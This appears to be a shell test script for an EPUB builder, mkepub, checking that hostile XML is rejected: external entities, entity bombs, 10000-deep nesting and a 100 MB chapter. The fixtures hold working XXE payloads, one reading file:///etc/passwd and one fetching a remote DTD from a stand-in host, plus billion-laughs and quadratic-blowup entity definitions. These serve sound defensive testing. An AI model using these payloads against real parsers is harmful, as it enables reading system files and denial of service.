#!/bin/sh
# Hostile XML: DOCTYPEs with entities (external ones never resolved: no
# file or network access), entity bombs, documents nested thousands deep,
# and a very large chapter (bounded memory).
. "$(dirname "$0")/../lib.sh"
. "$TEST_DIRECTORY/lib-diag.sh"

# --- external entities ----------------------------------------------------

new_book xxe chapters/a.xhtml chapters/b.xhtml
S=$TEST_TMP/xxe
cat >"$S/book/chapters/a.xhtml" <<\EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>A</title></head>
<body><h1>A</h1><p>&xxe;</p></body></html>
EOF
cat >"$S/book/chapters/b.xhtml" <<\EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [
  <!ENTITY % remote SYSTEM "http://example.com/evil.dtd">
  %remote;
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>B</title></head>
<body><h1>B</h1></body></html>
EOF
cat >"$S/expect" <<\EOF
book/chapters/a.xhtml:3:3: error: the DOCTYPE declares the external entity 'xxe' (file:///etc/passwd): EPUB content may not declare entities, and mkepub never expands them; write the text itself
book/chapters/a.xhtml:6:25: error: Entity 'xxe' not defined (declared in the DOCTYPE, but mkepub never expands entities; write the text itself)
book/chapters/b.xhtml:3:3: error: the DOCTYPE declares the external entity 'remote' (http://example.com/evil.dtd): EPUB content may not declare entities, and mkepub never expands them; write the text itself
book/chapters/b.xhtml:4:11: error: PEReference: %remote; not found (declared in the DOCTYPE, but mkepub never expands entities; write the text itself)
4 errors, 0 warnings
EOF

test_expect_success 'chapter: external general and parameter entities are errors' '
    check_fails 1 xxe
'

new_book xxe-book
S=$TEST_TMP/xxe-book
cat >"$S/book/book.xml" <<\EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE book [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY t "Hello">
]>
<book>
  <metadata>
    <title>&t; &xxe;</title>
    <language>en</language>
  </metadata>
  <chapters>
    <chapter href="chapters/one.xhtml"/>
  </chapters>
</book>
EOF
cat >"$S/expect" <<\EOF
book/book.xml:3:3: error: the DOCTYPE declares the external entity 'xxe' (file:///etc/passwd): mkepub never expands entities; write the text itself
book/book.xml:4:3: error: the DOCTYPE declares entity 't': mkepub never expands entities; write the text itself
book/book.xml:8:15: error: Entity 't' not defined (declared in the DOCTYPE, but mkepub never expands entities; write the text itself)
3 errors, 0 warnings
EOF

test_expect_success 'book.xml: entities are errors, none is expanded' '
    check_fails 1 xxe-book
'

# The entities' targets are FIFOs: opening one would block the run for
# ever, so finishing at all shows that nothing was opened.  An external
# DTD subset (never loaded) is no error at all.
S=$TEST_TMP/fifo
new_book fifo chapters/a.xhtml chapters/b.xhtml
mkfifo "$S/secret" "$S/subset.dtd"
cat >"$S/book/chapters/a.xhtml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file://$S/secret">
  <!ENTITY % pe SYSTEM "$S/secret">
  %pe;
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>A</title></head>
<body><h1>A</h1><p>&xxe;</p></body></html>
EOF
cat >"$S/book/chapters/b.xhtml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html SYSTEM "file://$S/subset.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>B</title></head>
<body><h1>B</h1><p>&nbsp;</p></body></html>
EOF

test_expect_success 'entity and DTD files are never opened (FIFOs do not block)' '
    cd "$S" &&
    must_fail 1 timeout 30 "$MKEPUB" --check book/book.xml 2>err &&
    cat err &&
    grep -F "book/chapters/a.xhtml:3:3: error: the DOCTYPE declares the external entity $(printf "\047xxe\047")" err &&
    ! grep "b.xhtml" err &&
    grep -v "^book/chapters/a.xhtml:" err >rest &&
    test_cmp - rest <<-\EOF
	3 errors, 0 warnings
	EOF
'

test_expect_success 'an external DTD subset is ignored: the chapter builds' '
    cd "$S" &&
    printf "<h1>A</h1>\n" >book/chapters/a.xhtml &&
    SOURCE_DATE_EPOCH=1606953600 timeout 30 "$MKEPUB" -o out/book.epub \
        book/book.xml 2>err &&
    test_summary_only err &&
    B=$(zip_entries out/book.epub | grep "b.xhtml\$") &&
    epub_cat out/book.epub "$B" >b.out &&
    grep -Fx "<!DOCTYPE html>" b.out &&
    ! grep subset.dtd b.out
'

# --- entity bombs ---------------------------------------------------------------

# slow_factor: how much slower than native the binary under test runs.
slow_factor() {
    if [ "${MKEPUB_VALGRIND:-}" = 1 ]; then
        echo 30
    elif grep -q __asan_init "$MKEPUB" 2>/dev/null; then
        echo 5
    else
        echo 1
    fi
}

# ms_now: milliseconds since the epoch.
ms_now() {
    echo $(($(date +%s%N) / 1000000))
}

new_book laughs
S=$TEST_TMP/laughs
cat >"$S/book/chapters/one.xhtml" <<\EOF
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Lol</title></head>
<body><h1>Lol</h1><p>&lol9;</p><p title="&lol9;">x</p></body></html>
EOF
{
    for e in lol lol1 lol2 lol3 lol4 lol5 lol6 lol7 lol8 lol9; do
        n=${e#lol}
        echo "book/chapters/one.xhtml:$((${n:-0} + 3)):2: error: the DOCTYPE declares entity '$e': EPUB content may not declare entities, and mkepub never expands them; write the text itself"
    done
    echo "book/chapters/one.xhtml:15:28: error: Entity 'lol9' not defined (declared in the DOCTYPE, but mkepub never expands entities; write the text itself)"
    echo "11 errors, 0 warnings"
} >"$S/expect"

test_expect_success 'billion laughs: an error, at once' '
    t0=$(ms_now) &&
    check_fails 1 laughs &&
    t1=$(ms_now) &&
    echo "three runs took $((t1 - t0)) ms" &&
    test $((t1 - t0)) -lt $((3 * 2000 * $(slow_factor)))
'

# Quadratic blow-up: one large entity referenced many times.
new_book quadratic
S=$TEST_TMP/quadratic
{
    echo '<?xml version="1.0" encoding="UTF-8"?>'
    printf '<!DOCTYPE html [<!ENTITY a "'
    awk 'BEGIN { for (i = 0; i < 50000; i++) printf "aaaaaaaaaa" }'
    echo '">]>'
    echo '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Q</title></head>'
    printf '<body><h1>Q</h1><p>'
    awk 'BEGIN { for (i = 0; i < 50000; i++) printf "&a;" }'
    echo '</p></body></html>'
} >"$S/book/chapters/one.xhtml"
cat >"$S/expect" <<\EOF
book/chapters/one.xhtml:2:17: error: the DOCTYPE declares entity 'a': EPUB content may not declare entities, and mkepub never expands them; write the text itself
book/chapters/one.xhtml:4:23: error: Entity 'a' not defined (declared in the DOCTYPE, but mkepub never expands entities; write the text itself)
2 errors, 0 warnings
EOF

test_expect_success 'quadratic blow-up (a 500 KB entity used 50000 times): an error, at once' '
    t0=$(ms_now) &&
    check_fails 1 quadratic &&
    t1=$(ms_now) &&
    echo "three runs took $((t1 - t0)) ms" &&
    test $((t1 - t0)) -lt $((3 * 2000 * $(slow_factor)))
'

# --- nesting ----------------------------------------------------------------------

# deep N OPEN CLOSE: N opening tags, "x", N closing tags, one line.
deep() {
    awk -v n="$1" -v o="$2" -v c="$3" \
        'BEGIN { for (i = 0; i < n; i++) printf "%s", o; printf "x";
                 for (i = 0; i < n; i++) printf "%s", c; print "" }'
}

new_book deep chapters/fragment.xhtml chapters/full.xhtml
S=$TEST_TMP/deep
{
    echo "<h1>Deep</h1>"
    deep 10000 "<div>" "</div>"
} >"$S/book/chapters/fragment.xhtml"
{
    echo '<?xml version="1.0" encoding="UTF-8"?>'
    echo '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>D</title></head>'
    echo '<body>'
    awk 'BEGIN { for (i = 0; i < 10000; i++) print "<div>"; print "x";
                 for (i = 0; i < 10000; i++) print "</div>" }'
    echo '</body></html>'
} >"$S/book/chapters/full.xhtml"
cat >"$S/expect" <<\EOF
book/chapters/fragment.xhtml:2:1285: error: Excessive depth in document: elements are nested more than 256 deep; flatten the markup
book/chapters/full.xhtml:259:5: error: Excessive depth in document: elements are nested more than 256 deep; flatten the markup
2 errors, 0 warnings
EOF

test_expect_success '10000-deep chapters: libxml2 depth error, at once' '
    t0=$(ms_now) &&
    check_fails 1 deep &&
    t1=$(ms_now) &&
    echo "three runs took $((t1 - t0)) ms" &&
    test $((t1 - t0)) -lt $((3 * 2000 * $(slow_factor)))
'

new_book deep-book
S=$TEST_TMP/deep-book
{
    echo '<?xml version="1.0" encoding="UTF-8"?>'
    echo '<book><metadata><title>T</title><language>en</language></metadata>'
    deep 10000 "<x>" "</x>"
    echo '</book>'
} >"$S/book/book.xml"
cat >"$S/expect" <<\EOF
book/book.xml:3:771: error: Excessive depth in document: elements are nested more than 256 deep; flatten the markup
1 error, 0 warnings
EOF

test_expect_success '10000-deep book.xml: libxml2 depth error' '
    check_fails 1 deep-book
'

# --- a very large chapter -----------------------------------------------------------

# Native: 100 MB, and peak RSS must stay under 4x the file (the tree
# libxml2 builds is about 2.5x its text).  Under valgrind a smaller
# chapter (no bound); under ASan no bound (shadow memory).
if [ "${MKEPUB_VALGRIND:-}" = 1 ]; then
    BIG_MB=4
else
    BIG_MB=100
fi
new_book big chapters/big.xhtml
S=$TEST_TMP/big
{
    echo "<h1>Big</h1>"
    awk -v mb="$BIG_MB" 'BEGIN {
        p = "<p>"
        for (i = 0; i < 16; i++)
            p = p "Lorem ipsum dolor sit amet, consectetur adipiscing elit. "
        p = p "</p>"
        n = int(mb * 1048576 / (length(p) + 1))
        for (i = 0; i < n; i++) print p
    }'
} >"$S/book/chapters/big.xhtml"

# peak_rss_kb OUT-FILE CMD...: runs CMD; its peak resident set (KB) goes
# to OUT-FILE; returns CMD's status.  /usr/bin/time when there is one,
# else VmHWM from /proc, read until the process ends.
peak_rss_kb() {
    _pr_out=$1
    shift
    if [ -x /usr/bin/time ]; then
        /usr/bin/time -f %M -o "$_pr_out" "$@"
        return
    fi
    "$@" &
    _pr_pid=$!
    _pr_max=0
    while [ -r /proc/$_pr_pid/status ]; do
        _pr_kb=$(awk '/^State:.*Z/ { print "z"; exit }
                      /^VmHWM:/ { print $2 }' /proc/$_pr_pid/status 2>/dev/null)
        [ "$_pr_kb" = z ] && break
        [ -n "$_pr_kb" ] && [ "$_pr_kb" -gt "$_pr_max" ] && _pr_max=$_pr_kb
        sleep 0.02
    done
    wait $_pr_pid
    _pr_rc=$?
    echo "$_pr_max" >"$_pr_out"
    return $_pr_rc
}

test_expect_success "a ${BIG_MB} MB chapter builds" '
    cd "$S" &&
    size_kb=$(($(wc -c <book/chapters/big.xhtml) / 1024)) &&
    if [ "${MKEPUB_VALGRIND:-}" = 1 ]; then
        SOURCE_DATE_EPOCH=1606953600 mkepub -o out/book.epub book/book.xml
    else
        SOURCE_DATE_EPOCH=1606953600 peak_rss_kb rss "$MKEPUB" \
            -o out/book.epub book/book.xml &&
        rss_kb=$(tail -n 1 rss) &&
        echo "chapter: $size_kb KB, peak RSS: $rss_kb KB" &&
        if grep -q __asan_init "$MKEPUB"; then
            echo "# ASan build: no memory bound"
        else
            test "$rss_kb" -lt $((4 * size_kb))
        fi
    fi &&
    no_leftovers out book.epub &&
    B=$(zip_entries out/book.epub | grep "big.xhtml\$") &&
    test "$(epub_cat out/book.epub "$B" | grep -c "^<p>Lorem")" -eq \
        "$(grep -c "^<p>Lorem" book/chapters/big.xhtml)"
'

test_expect_success "--check on the ${BIG_MB} MB chapter: bounded memory too" '
    cd "$S" &&
    if [ "${MKEPUB_VALGRIND:-}" = 1 ]; then
        mkepub --check book/book.xml
    else
        size_kb=$(($(wc -c <book/chapters/big.xhtml) / 1024)) &&
        peak_rss_kb rss "$MKEPUB" --check book/book.xml &&
        rss_kb=$(tail -n 1 rss) &&
        echo "chapter: $size_kb KB, peak RSS: $rss_kb KB" &&
        if grep -q __asan_init "$MKEPUB"; then
            echo "# ASan build: no memory bound"
        else
            test "$rss_kb" -lt $((4 * size_kb))
        fi
    fi
'

test_expect_success "a ${BIG_MB} MB chapter with an error near its end: line:col, nothing written" '
    cd "$S" &&
    n=$(wc -l <book/chapters/big.xhtml) &&
    echo "<p>broken <b>bold</p>" >>book/chapters/big.xhtml &&
    printf "%s\n" \
        "book/chapters/big.xhtml:$((n + 1)):22: error: Opening and ending tag mismatch: b line $((n + 1)) and p" \
        "1 error, 0 warnings" >expect &&
    check_fails 1 big
'

test_done
